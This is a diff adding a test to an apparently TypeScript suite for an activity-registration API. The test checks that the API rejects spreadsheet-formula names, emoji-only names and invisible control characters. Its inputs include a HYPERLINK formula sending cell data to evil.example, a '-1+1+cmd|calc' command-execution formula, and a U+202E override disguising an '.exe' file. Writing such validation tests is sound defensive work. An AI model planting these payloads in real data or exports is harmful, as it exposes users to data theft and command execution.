@@ -115,6 +115,28 @@ describe('activities: registration, 通报, 批示, cancellation', () => {
     expect(err3.extensions!.fields![0].field).toBe('organizerUnitId');
   });
 
+  it('refuses names that begin as a spreadsheet formula, a name of only emoji or punctuation, a contact that is not a person, and invisible characters inside a name, naming the field; nothing stored (review 6 C-F1, C-F6, C-F7)', async () => {
+    const dawa = await t.login('dawa');
+    const before = (await t.sql(`SELECT count(*)::int AS n FROM activities`))[0].n;
+    for (const [over, field, message] of [
+      [{ name: '=HYPERLINK("http://evil.example/?"&A1,"点击查看")' }, 'name', '活动名称不能以“=”开头（表格软件会当作公式）'],
+      [{ organizerName: '@SUM(1,2)' }, 'organizerName', '主办单位名称不能以“@”开头（表格软件会当作公式）'],
+      [{ undertakerName: '-1+1+cmd|calc' }, 'undertakerName', '承办单位名称不能以“-”开头（表格软件会当作公式）'],
+      [{ name: '🎉🎉🎉' }, 'name', '活动名称应含有汉字、字母或数字，不能只有符号或表情'],
+      [{ name: '。。。' }, 'name', '活动名称应含有汉字、字母或数字，不能只有符号或表情'],
+      [{ contactName: '12345' }, 'contactName', '联系人应为2–30个汉字或字母'],
+      [{ contactName: '+张三' }, 'contactName', '联系人应为2–30个汉字或字母'],
+      [{ name: '演\u200b唱会' }, 'name', '活动名称含有零宽字符、文字方向控制符等不可见的格式字符，请删除后重新输入'],
+      [{ venue: '体育馆\u202egnp.exe' }, 'venue', '场所含有改变文字显示方向的控制字符（如U+202E），显示的文字与实际不符，请删除后重新输入'],
+    ] as const) {
+      const err = expectErrorCode(await dawa.gql(CREATE_ACTIVITY, { input: activityInput(over) }), 'BAD_USER_INPUT');
+      expect(err.extensions!.fields).toEqual([{ field, message }]);
+    }
+    // a floor below ground is a place, not a formula
+    expectData(await dawa.gql(CREATE_ACTIVITY, { input: activityInput({ venue: '-1层多功能厅' }) }));
+    expect((await t.sql(`SELECT count(*)::int AS n FROM activities`))[0].n).toBe(before + 1);
+  });
+
   it('refuses implausible figures, naming the field: a start years ahead, a years-long event, an application decades early, more guards than people; nothing stored', async () => {
     const dawa = await t.login('dawa');
     const before = (await t.sql(`SELECT count(*)::int AS n FROM activities`))[0].n;
